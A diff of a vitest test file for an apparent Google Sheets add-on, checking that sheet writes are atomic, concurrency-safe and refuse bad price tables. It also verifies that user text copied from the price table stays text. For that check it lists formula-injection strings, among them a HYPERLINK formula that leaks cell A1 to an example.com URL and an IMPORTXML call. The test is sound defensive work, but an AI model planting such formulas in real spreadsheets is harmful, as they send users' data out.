@@ -1,226 +1,389 @@
+/**
+ * The sheet writers as the menu runs them from dist/Code.js, over a spreadsheet full of user data:
+ * a write that fails anywhere leaves nothing half-written and no cell changed; the user's own sheet
+ * called "Kling prices" is not the price table; two people inserting at once get two sheets; user
+ * text copied from the price table stays text; a price table with data below row 5,000 is refused.
+ */
 import { describe, expect, it } from 'vitest';
 import { bookToRows, DEFAULT_PRICE_BOOK } from '../../src/pricing';
-import { createAppsScriptFakes, type FakeSheet, FakeSpreadsheet } from '../fakes/appsScript';
-import { callGlobal, distHtmlFiles, loadBundle } from '../support/loadBundle';
+import { createAppsScriptFakes, type FakeSheet, type FakeSpreadsheet, parseA1 } from '../fakes/appsScript';
+import { callGlobal, loadBundle } from '../support/loadBundle';
+import { type Addon, addon, BUDGET, customFunctionCells, LOG, PLAN, PRICES } from './sheets';
+import { fingerprint, state, userSpreadsheet } from './userData';
 
-const MENU_FUNCTIONS = ['showSidebar', 'insertBudgetTemplate', 'insertPriceTable', 'editPrices', 'showHelp'] as const;
+const SERVICE_ERROR = /^Service Spreadsheets failed/;
 
-/** A spreadsheet full of user data, including sheets named like the ones the add-on writes. */
-function userSpreadsheet(options: { userPriceSheet?: boolean } = {}): FakeSpreadsheet {
-  const spreadsheet = new FakeSpreadsheet('Data');
-  const fill = (sheet: FakeSheet, rows: number, cols: number) => {
-    const values = Array.from({ length: rows }, (_, r) =>
-      Array.from({ length: cols }, (_, c) => (c === 0 ? `item ${r}` : c === 1 ? r * 1.5 : c === 2 ? r % 2 === 0 : `=B${r + 1}*${c}`)),
-    );
-    sheet.getRange(1, 1, rows, cols).setValues(values);
-    sheet.getRange(1, 2, rows, 1).setNumberFormat('0.00');
-  };
-  fill(spreadsheet.getSheets()[0] as FakeSheet, 300, 14);
-  fill(spreadsheet.insertSheet('Kling budget'), 40, 6);
-  fill(spreadsheet.insertSheet('Kling price table'), 10, 3);
-  if (options.userPriceSheet) fill(spreadsheet.insertSheet('Kling prices'), 20, 8);
-  spreadsheet.setActiveSheet(spreadsheet.getSheets()[0] as FakeSheet);
-  spreadsheet.writes.length = 0;
-  return spreadsheet;
+/**
+ * Runs `action` once to count its writes (its new sheets then removed), then again failing at each
+ * write in turn. After each failure: the same sheets, no write to a sheet that was there before
+ * (the fake records every change of a cell, format, rule or style), and every small sheet of the
+ * user's cell for cell as before; at the end every sheet, cell for cell.
+ */
+function failAtEveryWrite(a: Addon, action: () => void): number {
+  const spreadsheet = a.spreadsheet;
+  const before = state(spreadsheet);
+  const small = before.names.filter((name) => (spreadsheet.getSheetByName(name) as FakeSheet).cellStates().length < 20_000);
+  // Compared as text: a deep comparison of thousands of cells after every failure is slow.
+  const beforeSmall = fingerprint(spreadsheet, small);
+  const start = spreadsheet.writes.length;
+  action();
+  const writes = spreadsheet.writes.length - start;
+  for (const sheet of spreadsheet.getSheets()) if (!before.names.includes(sheet.getName())) spreadsheet.deleteSheet(sheet);
+  expect(state(spreadsheet)).toEqual(before);
+  for (let i = 0; i < writes; i++) {
+    const from = spreadsheet.writes.length;
+    const at = from + i;
+    let failed = false;
+    spreadsheet.failWhen = (_write, index) => {
+      if (index !== at) return false;
+      failed = true;
+      return true;
+    };
+    expect(action, `a failure at write ${i + 1} of ${writes}`).toThrow(SERVICE_ERROR);
+    expect(failed).toBe(true);
+    const what = `after a failure at write ${i + 1} of ${writes}`;
+    expect(
+      spreadsheet.getSheets().map((s) => s.getName()),
+      what,
+    ).toEqual(before.names);
+    expect(
+      spreadsheet.writes.slice(from).filter((w) => before.names.includes(w.sheet)),
+      what,
+    ).toEqual([]);
+    expect(fingerprint(spreadsheet, small) === beforeSmall, what).toBe(true);
+  }
+  spreadsheet.failWhen = null;
+  expect(state(spreadsheet)).toEqual(before);
+  return writes;
 }
 
-function snapshotAll(spreadsheet: FakeSpreadsheet) {
-  return Object.fromEntries(
-    spreadsheet.getSheets().map((s) => {
-      const range = s.getDataRange();
-      return [s.getName(), { cells: s.snapshot(), formats: range.getNumberFormats(), validations: range.getDataValidations() }];
-    }),
-  );
-}
+describe('a failure in the middle of any write leaves nothing half-written', () => {
+  const cases: [string, (a: Addon) => void, string][] = [
+    ['Insert budget template', () => undefined, 'insertBudgetTemplate'],
+    ['Insert budget template, edited prices', (a) => a.run('editPrices'), 'insertBudgetTemplate'],
+    ['Insert 12-month plan, no usage log yet (it inserts one)', () => undefined, 'insertTwelveMonthPlan'],
+    ['Insert 12-month plan, with a usage log', (a) => a.run('insertUsageLog'), 'insertTwelveMonthPlan'],
+    ['Insert usage log', () => undefined, 'insertUsageLog'],
+    ['Edit prices', () => undefined, 'editPrices'],
+    ['Insert price table', () => undefined, 'insertPriceTable'],
+    ['Insert price table, edited prices', (a) => a.run('editPrices'), 'insertPriceTable'],
+  ];
+  for (const [what, prepare, action] of cases) {
+    it(what, () => {
+      const a = addon(userSpreadsheet());
+      prepare(a);
+      a.spreadsheet.writes.length = 0;
+      const writes = failAtEveryWrite(a, () => a.run(action));
+      expect(writes).toBeGreaterThan(5);
+    });
+  }
 
-function setup(options: { userPriceSheet?: boolean } = {}) {
-  const spreadsheet = userSpreadsheet(options);
-  const fakes = createAppsScriptFakes({ spreadsheet, files: distHtmlFiles() });
-  const context = loadBundle(fakes.services);
-  return { fakes, spreadsheet, context, call: (name: string) => callGlobal(context, name) };
-}
-
-describe('menu items on a spreadsheet full of user data', () => {
-  it('each item runs twice in a row without an error and without touching an existing sheet', () => {
-    const { spreadsheet, call, fakes } = setup();
-    const before = snapshotAll(spreadsheet);
-    const existing = Object.keys(before);
-    for (const name of MENU_FUNCTIONS) {
-      call(name);
-      call(name);
-    }
-    // Then once more each, now that the add-on's own sheets exist too.
-    for (const name of MENU_FUNCTIONS) call(name);
-    const after = snapshotAll(spreadsheet);
-    for (const name of existing) expect(after[name], name).toEqual(before[name]);
-    expect(spreadsheet.writes.filter((w) => existing.includes(w.sheet))).toEqual([]);
-    expect(spreadsheet.getSheets().map((s) => s.getName())).toEqual([
-      'Data',
-      'Kling budget',
-      'Kling price table',
-      'Kling budget 2',
-      'Kling budget 3',
-      'Kling price table 2',
-      'Kling price table 3',
-      'Kling prices',
-      'Kling budget 4',
-      'Kling price table 4',
-    ]);
-    // No error was shown: no alert at all, only the help dialogs and the sidebars.
-    expect(fakes.ui.filter((e) => e.kind === 'alert')).toEqual([]);
-    expect(fakes.ui.filter((e) => e.kind === 'dialog').map((e) => e.title)).toEqual(Array(3).fill('Kling Cost help'));
-    expect(fakes.ui.filter((e) => e.kind === 'sidebar').map((e) => e.title)).toEqual(Array(3).fill('Kling Cost'));
+  it('Edit prices writes under a temporary name and renames the table as its last write', () => {
+    const a = addon(userSpreadsheet());
+    a.spreadsheet.writes.length = 0;
+    a.run('editPrices');
+    const writes = a.spreadsheet.writes;
+    const last = writes.at(-1);
+    expect(last).toEqual({ sheet: 'Kling prices (being written)', a1: '', what: 'sheet' });
+    expect(writes.slice(0, -1).every((w) => w.sheet === 'Kling prices (being written)')).toBe(true);
+    expect(a.spreadsheet.getSheetByName(PRICES)?.getRange('A1').getValue()).toBe('Section');
+    expect(a.spreadsheet.getSheetByName('Kling prices (being written)')).toBeNull();
   });
+});
 
-  it('Edit prices a second time opens the table and writes nothing', () => {
-    const { spreadsheet, call } = setup();
-    call('editPrices');
-    const writes = spreadsheet.writes.length;
-    const table = spreadsheet.getSheetByName('Kling prices')?.snapshot();
-    spreadsheet.setActiveSheet(spreadsheet.getSheets()[0] as FakeSheet);
-    call('editPrices');
-    expect(spreadsheet.writes.length).toBe(writes);
-    expect(spreadsheet.getSheetByName('Kling prices')?.snapshot()).toEqual(table);
-    expect(spreadsheet.getActiveSheet().getName()).toBe('Kling prices');
+describe('two people inserting at once never collide', () => {
+  const cases: [string, string, string][] = [
+    ['insertBudgetTemplate', BUDGET, 'Kling budget 3'],
+    ['insertUsageLog', LOG, 'Kling usage log 3'],
+    ['insertPriceTable', 'Kling price table', 'Kling price table 3'],
+    ['editPrices', 'Kling prices (being written)', PRICES],
+  ];
+  for (const [action, theirs, ours] of cases) {
+    it(`${action}: another person's sheet takes the name between the check and the insert`, () => {
+      const a = addon(userSpreadsheet());
+      const wanted = new Set<string>();
+      a.spreadsheet.beforeInsert = (name) => {
+        wanted.add(name);
+        // The other person's sheet, made with the very name this insert chose.
+        a.spreadsheet
+          .insertSheet(name)
+          .getRange('A1')
+          .setValues([['theirs']]);
+      };
+      a.run(action);
+      const names = a.spreadsheet.getSheets().map((s) => s.getName());
+      expect(new Set(names).size).toBe(names.length);
+      expect([...wanted]).toEqual([action === 'editPrices' ? theirs : `${theirs} 2`]);
+      expect(a.spreadsheet.getSheetByName([...wanted][0] as string)?.snapshot()).toEqual({ A1: 'theirs' });
+      const mine = a.spreadsheet.getSheetByName(ours) as FakeSheet;
+      expect(mine).not.toBeNull();
+      expect(Object.keys(mine.snapshot()).length).toBeGreaterThan(20);
+    });
+  }
+
+  it("two people choosing Edit prices at once get one price table: the second opens the first one's", () => {
+    const spreadsheet = userSpreadsheet();
+    const fakes = createAppsScriptFakes({ spreadsheet });
+    let other: (() => void) | null = () => {
+      // The other person's Edit prices, finished while this one waited for the lock.
+      const table = spreadsheet.insertSheet(PRICES);
+      const rows = bookToRows(DEFAULT_PRICE_BOOK);
+      table.getRange(1, 1, rows.length, 8).setValues(rows);
+    };
+    const LockService = {
+      getDocumentLock: () => {
+        const lock = spreadsheet.documentLock();
+        return {
+          ...lock,
+          waitLock(ms: number) {
+            const run = other;
+            other = null;
+            run?.();
+            lock.waitLock(ms);
+          },
+        };
+      },
+    };
+    const context = loadBundle({ ...fakes.services, LockService });
+    callGlobal(context, 'editPrices');
+    expect(spreadsheet.getSheets().filter((s) => s.getName().startsWith(PRICES))).toHaveLength(1);
+    expect(spreadsheet.getActiveSheet().getName()).toBe(PRICES);
     expect(spreadsheet.toasts.at(-1)).toContain('edit them there');
   });
 
-  it('a user sheet already named "Kling prices" is never written; the price table is refused with the reason', () => {
-    const { spreadsheet, call, fakes } = setup({ userPriceSheet: true });
-    const before = snapshotAll(spreadsheet);
-    for (const name of MENU_FUNCTIONS) {
-      call(name);
-      call(name);
-    }
-    const after = snapshotAll(spreadsheet);
-    for (const name of Object.keys(before)) expect(after[name], name).toEqual(before[name]);
-    expect(spreadsheet.writes.filter((w) => Object.keys(before).includes(w.sheet))).toEqual([]);
-    // No audit table from a broken price table, and no silent default either.
-    expect(spreadsheet.getSheetByName('Kling price table 2')).toBeNull();
-    const refusals = fakes.ui.filter((e) => e.title === 'Kling Cost: the price table was not inserted');
-    expect(refusals).toHaveLength(2);
-    expect(String(refusals[0]?.detail)).toMatch(
-      /^Fix the sheet "Kling prices", row 1, column A \(Section\): expected the header "Section"/,
-    );
-    // The budget still points at the user's price sheet, and says it has an error.
-    const budget = spreadsheet.getSheetByName('Kling budget 2') as FakeSheet;
-    expect(budget.getRange('G6').getFormulas()[0]?.[0]).toBe("=KLING_CREDITS(C6,D6,E6,B6,'Kling prices'!$A$1:$H$200)");
-    expect(budget.getRange('A3').getValue()).toMatch(/it has an error/);
-    expect(spreadsheet.toasts.some((t) => t.includes('row 1, column A'))).toBe(true);
+  it('a sheet someone makes by hand as "Kling prices" while the table is written: the table takes the next free name', () => {
+    const a = addon(userSpreadsheet());
+    let made = false;
+    a.spreadsheet.failWhen = (write) => {
+      if (!made && write.what === 'style' && write.sheet === 'Kling prices (being written)' && write.a1 === 'A1') {
+        made = true;
+        a.spreadsheet
+          .insertSheet(PRICES)
+          .getRange('A1')
+          .setValues([['theirs']]);
+        a.spreadsheet.failWhen = () => false;
+      }
+      return false;
+    };
+    a.run('editPrices');
+    expect(made).toBe(true);
+    expect(a.spreadsheet.getSheetByName(PRICES)?.snapshot()).toEqual({ A1: 'theirs' });
+    const table = a.spreadsheet.getSheetByName('Kling prices 2') as FakeSheet;
+    expect(table.getRange('A1').getValue()).toBe('Section');
+    expect(table.getRange('A1').getNote()).toContain("'Kling prices 2'!A:H");
+    expect(a.spreadsheet.getSheetByName('Kling prices (being written)')).toBeNull();
+  });
+
+  it("insertTwelveMonthPlan: another person's sheet takes the log's name, then the plan's", () => {
+    const a = addon(userSpreadsheet());
+    const other = (name: string) =>
+      a.spreadsheet
+        .insertSheet(name)
+        .getRange('A1')
+        .setValues([['theirs']]);
+    // The hook runs once, before the next insert: re-armed until the plan's own insert.
+    const atPlan = (name: string) => {
+      if (name.startsWith(PLAN)) other(name);
+      else a.spreadsheet.beforeInsert = atPlan;
+    };
+    a.spreadsheet.beforeInsert = (name) => {
+      other(name);
+      a.spreadsheet.beforeInsert = atPlan;
+    };
+    a.run('insertTwelveMonthPlan');
+    const names = a.spreadsheet.getSheets().map((s) => s.getName());
+    expect(names.slice(-4)).toEqual(['Kling usage log 2', 'Kling usage log 3', 'Kling 12-month plan 2', 'Kling 12-month plan 3']);
+    const plan = a.spreadsheet.getSheetByName('Kling 12-month plan 3') as FakeSheet;
+    expect(plan.getRange('A97').getFormulas()[0]?.[0]).toContain("'Kling usage log 3'!$A$1:$A$10001");
+    expect(plan.getRange('A95').getValue()).toBe('Budget against actuals, from the usage log "Kling usage log 3"');
   });
 });
 
-describe('Edit prices', () => {
-  it('writes the whole default book, one row per price, dates kept as text, value formats per row', () => {
-    const { spreadsheet, call } = setup();
-    call('editPrices');
-    const sheet = spreadsheet.getSheetByName('Kling prices') as FakeSheet;
-    const expected = bookToRows(DEFAULT_PRICE_BOOK);
-    expect(sheet.getDataRange().getValues()).toEqual(expected);
-    expect(sheet.getFrozenRows()).toBe(1);
-    const formats = sheet
-      .getRange(2, 4, expected.length - 1, 1)
-      .getNumberFormats()
-      .map((r) => r[0]);
-    const byRow = (section: string, field: string) => formats[expected.findIndex((r) => r[0] === section && r[2] === field) - 1];
-    expect(byRow('Plan', 'monthly renewal')).toBe('$#,##0.00');
-    expect(byRow('Plan', 'credits per month')).toBe('#,##0');
-    expect(byRow('API, Kling 3.0', 'USD per second')).toBe('$0.00####');
+describe('a sheet of the user\'s named "Kling prices" is not the price table', () => {
+  it('Edit prices makes "Kling prices 2", and every reader uses it', () => {
+    const a = addon(userSpreadsheet({ userPriceSheet: true }));
+    const before = state(a.spreadsheet);
+    a.run('editPrices');
+    expect(a.spreadsheet.getSheetByName('Kling prices 2')?.getRange('A1:H1').getValues()[0]).toEqual([
+      'Section',
+      'Item',
+      'Field',
+      'Value',
+      'Unit',
+      'Confidence',
+      'Source',
+      'As of',
+    ]);
+    expect(a.spreadsheet.toasts.at(-1)).toContain("'Kling prices 2'!A:H");
+    a.run('insertBudgetTemplate');
+    a.run('insertUsageLog');
+    a.run('insertTwelveMonthPlan');
+    a.run('insertPriceTable');
+    for (const name of ['Kling budget 2', 'Kling usage log 2', 'Kling 12-month plan 2']) {
+      const sheet = a.spreadsheet.getSheetByName(name) as FakeSheet;
+      const cells = customFunctionCells(sheet);
+      expect(cells.length, name).toBeGreaterThan(3);
+      for (const a1 of cells) expect(sheet.getRange(a1).getFormulas()[0]?.[0], `${name}!${a1}`).toMatch(/,'Kling prices 2'!A:H\)$/);
+      expect(
+        Object.values(sheet.snapshot()).some((v) => typeof v === 'string' && v.includes("'Kling prices 2'!$A$1:$A$5000")),
+        name,
+      ).toBe(true);
+    }
+    expect(a.spreadsheet.getSheetByName('Kling price table 2')?.getRange('B2').getValue()).toMatch(/^the sheet "Kling prices 2"/);
+    expect((a.run('sidebarInit') as { source: string }).source).toMatch(/^the sheet "Kling prices 2"/);
+    // Edit prices again opens "Kling prices 2" and writes nothing.
+    const writes = a.spreadsheet.writes.length;
+    a.run('editPrices');
+    expect(a.spreadsheet.writes.length).toBe(writes);
+    expect(a.spreadsheet.getActiveSheet().getName()).toBe('Kling prices 2');
+    // The user's sheet "Kling prices" and every other sheet of theirs: not a cell changed.
+    const after = state(a.spreadsheet);
+    for (const name of before.names) expect(after.sheets[name], name).toEqual(before.sheets[name]);
+  });
+});
+
+describe("user text stays text: the price table's Source", () => {
+  const INJECTED = [
+    '=HYPERLINK("https://example.com/x?leak="&A1,"Kling pricing")',
+    '=IMPORTXML("https://example.com","//a")',
+    '+1+1',
+    '-1+1',
+    '@SUM(1)',
+  ];
+  it('Insert price table copies an edited Source as text, never as a formula', () => {
+    const a = addon(userSpreadsheet());
+    a.run('editPrices');
+    const prices = a.spreadsheet.getSheetByName(PRICES) as FakeSheet;
+    // As a user types them: text (Sheets keeps a typed formula as text only behind an apostrophe).
+    // The first row of five entries (a plan, another plan, a pack, images, the API unit): each entry has one Source.
+    const rows = [2, 7, 27, 69, 103];
+    INJECTED.forEach((text, i) => {
+      prices.getRange(rows[i] as number, 7).setValues([[`'${text}`]]);
+    });
+    expect(prices.getRange('G2').getValue()).toBe(INJECTED[0]);
+    a.run('insertPriceTable');
+    const table = a.spreadsheet.getSheetByName('Kling price table 2') as FakeSheet;
+    const formulas = table
+      .getDataRange()
+      .getFormulas()
+      .flat()
+      .filter((f) => f !== '');
+    expect(formulas).toEqual([]);
+    const sources = table
+      .getRange(7, 7, 120, 1)
+      .getValues()
+      .map((r) => String(r[0]));
+    for (const text of INJECTED)
+      expect(
+        sources.some((source) => source.startsWith(text)),
+        text,
+      ).toBe(true);
+    expect(table.getRange('B2').getValue()).toMatch(/^the sheet "Kling prices"/);
+  });
+
+  it('no writer leaves a formula as text in a plain-text cell, and writes no user text as a formula', () => {
+    const a = addon(userSpreadsheet());
+    a.run('editPrices');
+    for (const action of ['insertBudgetTemplate', 'insertUsageLog', 'insertTwelveMonthPlan', 'insertPriceTable']) a.run(action);
+    for (const name of ['Kling budget 2', 'Kling usage log 2', 'Kling 12-month plan 2', 'Kling price table 2', PRICES]) {
+      const sheet = a.spreadsheet.getSheetByName(name) as FakeSheet;
+      for (const [a1, value] of Object.entries(sheet.snapshot())) {
+        const formula = sheet.getRange(a1).getFormulas()[0]?.[0] ?? '';
+        if (typeof value === 'string' && value.startsWith('=')) expect(formula, `${name}!${a1} is text`).toBe(value);
+      }
+    }
+  });
+});
+
+describe('a price table with data below row 5,000', () => {
+  it('is refused with a clear message by every writer that reads it', () => {
+    const a = addon(userSpreadsheet());
+    a.run('editPrices');
+    const prices = a.spreadsheet.getSheetByName(PRICES) as FakeSheet;
+    const row = bookToRows(DEFAULT_PRICE_BOOK).find((r) => r[0] === 'Top-up pack') as (string | number)[];
+    prices.getRange(5001, 1, 1, 8).setValues([row]);
+    const message = 'the sheet "Kling prices", row 5001 holds data, below the 5,000 rows a price table may use; move it up';
+    a.run('insertPriceTable');
+    expect(a.fakes.ui.at(-1)).toMatchObject({
+      kind: 'alert',
+      title: 'Kling Cost: the price table was not inserted',
+      detail: `Fix ${message}.`,
+    });
+    expect(a.spreadsheet.getSheetByName('Kling price table 2')).toBeNull();
+    for (const [action, sheet] of [
+      ['insertBudgetTemplate', 'budget'],
+      ['insertUsageLog', 'usage log'],
+      ['insertTwelveMonthPlan', '12-month plan'],
+    ] as const) {
+      a.run(action);
+      expect(a.spreadsheet.toasts.at(-1), action).toBe(`The ${sheet} uses your edited prices, but ${message}.`);
+    }
+    expect(() => a.run('sidebarInit')).toThrow(`Kling Cost cannot read the prices: ${message}`);
+  });
+});
+
+describe('the inserted sheets', () => {
+  it('write formats before values, so typed model names such as 3.0 stay text', () => {
+    const a = addon();
+    a.run('insertBudgetTemplate');
+    const writes = a.spreadsheet.writes.filter((w) => w.sheet === BUDGET);
+    const firstValues = writes.findIndex((w) => w.what === 'values');
+    expect(writes.slice(0, firstValues).filter((w) => w.what === 'format').length).toBeGreaterThan(5);
+    expect(writes.slice(firstValues).some((w) => w.what === 'format')).toBe(false);
+    const sheet = a.spreadsheet.getSheetByName(BUDGET) as FakeSheet;
     expect(
       sheet
-        .getRange(2, 8, expected.length - 1, 1)
+        .getRange('B6:B35')
         .getNumberFormats()
         .every((r) => r[0] === '@'),
     ).toBe(true);
-    expect(sheet.getRange(2, 6).getDataValidations()[0]?.[0]?.getCriteriaValues()[0]).toEqual(['official', 'guide', 'estimate']);
-    expect(sheet.getRange('A1').getNote()).toContain('=KLING_COST("pro",10,TRUE,"standard",,,,\'Kling prices\'!$A$1:$H$200)');
-  });
-});
-
-describe('Insert price table', () => {
-  it('writes the default book with sources and the date it was inserted', () => {
-    const { spreadsheet, call } = setup();
-    call('insertPriceTable');
-    const sheet = spreadsheet.getSheetByName('Kling price table 2') as FakeSheet;
-    expect(sheet.getRange('B2').getValue()).toBe('the default price book (as of 2026-08-12)');
-    expect(sheet.getRange('B3').getValue()).toBe('2026-08-12');
-    const inserted = sheet.getRange('B4').getValue();
-    expect(Object.prototype.toString.call(inserted)).toBe('[object Date]');
-    expect(Math.abs((inserted as Date).getTime() - Date.now())).toBeLessThan(3_600_000);
-    const expected = bookToRows(DEFAULT_PRICE_BOOK);
-    expect(sheet.getRange(6, 1, expected.length, 8).getValues()).toEqual(expected);
+    expect(sheet.peek(5, 12)?.style.wrap).toBe(true);
   });
 
-  it('writes the edited prices when the sheet "Kling prices" holds a valid table', () => {
-    const { spreadsheet, call } = setup();
-    call('editPrices');
-    const prices = spreadsheet.getSheetByName('Kling prices') as FakeSheet;
-    const row =
-      prices
-        .getDataRange()
-        .getValues()
-        .findIndex((r) => r[0] === 'Plan' && r[1] === 'Pro' && r[2] === 'monthly renewal') + 1;
-    // A user edit, as typed into the sheet.
-    prices.getRange(row, 4, 1, 5).setValues([[30, 'USD per month', 'official', 'Kling invoice', '2026-11-01']]);
-    call('insertPriceTable');
-    const sheet = spreadsheet.getSheetByName('Kling price table 2') as FakeSheet;
-    expect(sheet.getRange('B2').getValue()).toBe('the sheet "Kling prices" (edited prices, newest as of 2026-11-01)');
-    const written = sheet
-      .getDataRange()
-      .getValues()
-      .filter((r) => r[0] === 'Plan' && r[1] === 'Pro');
-    expect(written.find((r) => r[2] === 'monthly renewal')?.slice(3)).toEqual([
-      30,
-      'USD per month',
-      'official',
-      expect.stringContaining('Kling invoice'),
-      '2026-11-01',
-    ]);
-    expect(written.find((r) => r[2] === 'yearly')?.[3]).toBe(293.04);
-  });
-});
-
-describe('Insert budget template', () => {
-  it('lays out a shot list with dropdowns, a checkbox column, examples, money formats and a summary', () => {
-    const { spreadsheet, call } = setup();
-    call('insertBudgetTemplate');
-    const sheet = spreadsheet.getSheetByName('Kling budget 2') as FakeSheet;
-    expect(sheet.getRange('A5:J5').getValues()[0]).toEqual([
+  it('the plan and the log: hidden helper columns, frozen header rows, the rows the log needs', () => {
+    const a = addon();
+    a.run('insertTwelveMonthPlan');
+    const plan = a.spreadsheet.getSheetByName(PLAN) as FakeSheet;
+    const log = a.spreadsheet.getSheetByName(LOG) as FakeSheet;
+    expect(plan.getFrozenRows()).toBe(13);
+    expect([34, 35, 36, 37, 38].every((c) => plan.isColumnHiddenByUser(c))).toBe(true);
+    expect(log.getFrozenRows()).toBe(1);
+    expect(log.getMaxRows()).toBeGreaterThanOrEqual(10_001);
+    expect(log.getRange('A1:J1').getValues()[0]).toEqual([
+      'Date',
       'Scene',
       'Model',
       'Mode',
       'Seconds',
       'Audio',
-      'Videos per month',
-      'Credits per video',
-      'Credits per month',
-      'Cost per month (USD)',
-      'Kling API per month (USD)',
+      'Outcome',
+      'Note',
+      'Credits per generation',
+      'Credits charged',
     ]);
-    expect(sheet.getRange('A6:F6').getValues()[0]).toEqual(['Opening shot', '2.6', 'professional', 10, true, 4]);
-    const rule = (a1: string) => sheet.getRange(a1).getDataValidations()[0]?.[0];
-    expect(rule('B35')?.getCriteriaValues()[0]).toEqual(['2.6', '3.0']);
-    expect(rule('C20')?.getCriteriaValues()[0]).toEqual(['standard', 'professional', '4k']);
-    expect(rule('D6')?.getCriteriaValues()[0]).toContain('15');
-    expect(rule('E35')?.getCriteriaType()).toBe('CHECKBOX');
-    expect(rule('M6')?.getCriteriaValues()[0]).toEqual(['monthly', 'intro', 'annual', 'list']);
-    expect(sheet.getRange('I6').getNumberFormats()[0]?.[0]).toBe('$#,##0.00');
-    expect(sheet.getRange('M12').getNumberFormats()[0]?.[0]).toBe('$#,##0.00');
-    expect(sheet.getRange('M7').getNumberFormats()[0]?.[0]).toBe('0%');
-    // Formulas without a prices argument while there is no "Kling prices" sheet.
-    expect(sheet.getRange('G6').getFormulas()[0]?.[0]).toBe('=KLING_CREDITS(C6,D6,E6,B6)');
-    expect(sheet.getRange('L22').getFormulas()[0]?.[0]).toBe('=KLING_YEARLY(M10,TRUE())');
-    expect(sheet.getRange('A3').getValue()).toBe('Prices: the default price book (as of 2026-08-12)');
-  });
-
-  it('passes the sheet "Kling prices" to every formula once it exists', () => {
-    const { spreadsheet, call } = setup();
-    call('editPrices');
-    call('insertBudgetTemplate');
-    const sheet = spreadsheet.getSheetByName('Kling budget 2') as FakeSheet;
-    const formulas = Object.values(sheet.snapshot()).filter((v): v is string => typeof v === 'string' && /KLING_/.test(v));
-    expect(formulas.length).toBeGreaterThan(60);
-    for (const formula of formulas) expect(formula).toMatch(/KLING_[A-Z_]+\((?:[^()]|\(\))*'Kling prices'!\$A\$1:\$H\$200\)/);
-    expect(sheet.getRange('A3').getValue()).toMatch(/^Prices: the sheet "Kling prices"/);
+    const rule = (a1: string) => log.getRange(a1).getDataValidations()[0]?.[0];
+    expect(rule('G10001')?.getCriteriaValues()[0]).toEqual(['kept', 'discarded', 'failed']);
+    expect(rule('G10001')?.allowInvalid).toBe(true);
+    expect(rule('A2')?.getCriteriaType()).toBe('DATE_IS_VALID_DATE');
+    // Long headers over narrow columns wrap instead of being cut off.
+    expect(['A13', 'H13', 'W13', 'B52', 'O97', 'S97'].every((a1) => plan.peek(...rowCol(a1))?.style.wrap === true)).toBe(true);
+    expect(['A1', 'I1', 'J1', 'L6', 'Y6'].every((a1) => log.peek(...rowCol(a1))?.style.wrap === true)).toBe(true);
+    // Made for the plan: no example rows.
+    expect(
+      log
+        .getRange('A2:H2')
+        .getValues()[0]
+        ?.every((v) => v === ''),
+    ).toBe(true);
+    expect(spreadsheetNames(a.spreadsheet)).toEqual(['Sheet1', LOG, PLAN]);
   });
 });
+
+function rowCol(a1: string): [number, number] {
+  const { row, col } = parseA1(a1);
+  return [row, col];
+}
+
+function spreadsheetNames(spreadsheet: FakeSpreadsheet): string[] {
+  return spreadsheet.getSheets().map((s) => s.getName());
+}
